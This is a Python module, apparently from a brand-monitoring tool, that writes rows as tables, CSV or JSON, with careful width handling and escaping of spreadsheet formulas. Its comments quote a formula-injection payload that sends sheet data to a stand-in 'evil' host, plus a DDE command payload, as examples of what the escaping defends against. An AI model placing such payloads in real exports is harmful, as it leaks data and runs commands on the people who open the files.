"""Writing result rows as an aligned table, CSV, a JSON list or JSON Lines, streaming where the format allows."""

from __future__ import annotations

import csv
import json
import os
import re
import sys
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any, TextIO

import click
import wcwidth

from brandpulse.alerts.shown import cut, excerpt

FORMATS = ("table", "csv", "json", "jsonl")
TABLE_CELL = 60


def format_option(default: str = "table", choices: Sequence[str] = FORMATS):
    """The `--format` option shared by every analyst command."""
    return click.option("--format", "fmt", type=click.Choice(list(choices)), default=default, show_default=True,
                        help="Output format.")


def _cell(value: Any) -> str:
    # A post's escape sequences or direction overrides would act on the terminal or reorder the columns.
    if isinstance(value, bytes | bytearray | memoryview):
        value = _bytes_as_text(value)
    return _narrowed(excerpt("" if value is None else f"{value:.4g}" if isinstance(value, float) else str(value),
                             TABLE_CELL))


def _narrowed(shown: str) -> str:
    """`shown` cut to TABLE_CELL terminal columns: cut to as many characters, a Japanese post took twice as many
    columns as an English one, and pushed the columns after it off an ordinary screen."""
    width = display_width(shown)
    if width <= TABLE_CELL:
        return shown
    chars = len(shown) * TABLE_CELL // width  # about the right length: a cut or two more at most
    while chars > 0 and display_width(narrower := cut(shown, chars)) > TABLE_CELL:
        chars -= 1
    return narrower if chars > 0 else ""


def display_width(text: str) -> int:
    """The terminal columns `text` takes, as wcwidth measures them: two for a wide or fullwidth character (CJK) and
    for an emoji, whether it is one code point or a sequence (❤️ with its variation selector, 👍🏽 with a skin tone,
    the family 👨‍👩‍👧 joined by ZWJs, a keycap 1️⃣), none for a combining mark, one for any other."""
    if text.isascii():
        return len(text)
    # Counted code point by code point, 👨‍👩‍👧 was 6 columns where a terminal draws 2, and ❤️ 1 where it draws 2.
    width = wcwidth.wcswidth(text)
    return width if width >= 0 else sum(max(wcwidth.wcwidth(c), 0) for c in text)  # a control left in: none


def _pad(text: str, width: int) -> str:
    # By columns, not characters: a Japanese post or an emoji padded by len() pushed the columns after it out of line.
    return text + " " * (width - display_width(text))


def _table(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) -> int:
    # Column widths need every row: the table format is for screens, not for exports.
    cells = [[_cell(row[c]) for c in columns] for row in rows]
    widths = [max([display_width(c), *(display_width(r[i]) for r in cells)]) for i, c in enumerate(columns)]
    out.write("  ".join(_pad(c, w) for c, w in zip(columns, widths)).rstrip() + "\n")
    out.write("  ".join("-" * w for w in widths) + "\n")
    for row in cells:
        out.write("  ".join(_pad(v, w) for v, w in zip(row, widths)).rstrip() + "\n")
    return len(cells)


# A cell a spreadsheet would run as a formula: a post reading `=HYPERLINK("https://evil/?"&A1, "click")` would send
# the sheet's data away on a click. Text cells starting with =, +, -, @, a tab or a CR get a leading `'` (OWASP's CSV
# injection advice); numbers stay as they are.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# Except a reply that is only its @handle (a Mastodon one with its @instance) and ordinary words: read as a formula it
# names nothing that runs, since a function needs `(`, DDE (`@cmd|' /C calc'!A0`) needs `|` and a link to another
# file needs `!` or `[`; only letters, digits, spaces, newlines and . , ? ' ’ may follow, anything else is defused.
_PLAIN_REPLY = re.compile(r"@\w+(?:@\w+(?:[.-]\w+)*)?(?:[ \n][\w .,?'\u2019\n]*)?")


def _csv_cell(value: Any) -> Any:
    if isinstance(value, bytes | bytearray | memoryview):
        value = _bytes_as_text(value)
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _PLAIN_REPLY.fullmatch(value):
        return "'" + value
    return value


def _csv(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) -> int:
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(columns)
    count = 0
    for count, row in enumerate(rows, start=1):
        writer.writerow([_csv_cell(row[c]) for c in columns])
    return count


def _bytes_as_text(value: Any) -> str:
    # A BLOB (an outbox message) in JSON: its text when it is UTF-8, else its bytes in hex.
    if isinstance(value, bytes | bytearray | memoryview):
        try:
            return bytes(value).decode("utf-8")
        except UnicodeDecodeError:
            return "\\x" + bytes(value).hex()
    raise TypeError(f"{type(value).__name__} cannot be written as JSON")


def _object(row: dict[str, Any], columns: Sequence[str]) -> str:
    return json.dumps({c: row[c] for c in columns}, ensure_ascii=False, default=_bytes_as_text)


def _json(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) -> int:
    # Written element by element so that a JSON list streams like JSON Lines does.
    count = 0
    out.write("[")
    for count, row in enumerate(rows, start=1):
        out.write(("\n" if count == 1 else ",\n") + _object(row, columns))
    out.write("\n]\n" if count else "]\n")
    return count


def _jsonl(rows: Iterable[dict[str, Any]], columns: Sequence[str], out: TextIO) -> int:
    count = 0
    for count, row in enumerate(rows, start=1):
        out.write(_object(row, columns) + "\n")
    return count


WRITERS = {"table": _table, "csv": _csv, "json": _json, "jsonl": _jsonl}


def private_file(path: Path) -> TextIO:
    """`path` opened for writing as UTF-8 text, created readable by its owner only, as the store it comes from is."""
    return open(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "w", encoding="utf-8", newline="")


def write_rows(rows: Iterable[dict[str, Any]], columns: Sequence[str], fmt: str, out: TextIO | None = None) -> int:
    """Write `rows` (dicts holding at least `columns`) in `fmt` to `out` (stdout by default); returns the count."""
    return WRITERS[fmt](rows, columns, out or sys.stdout)
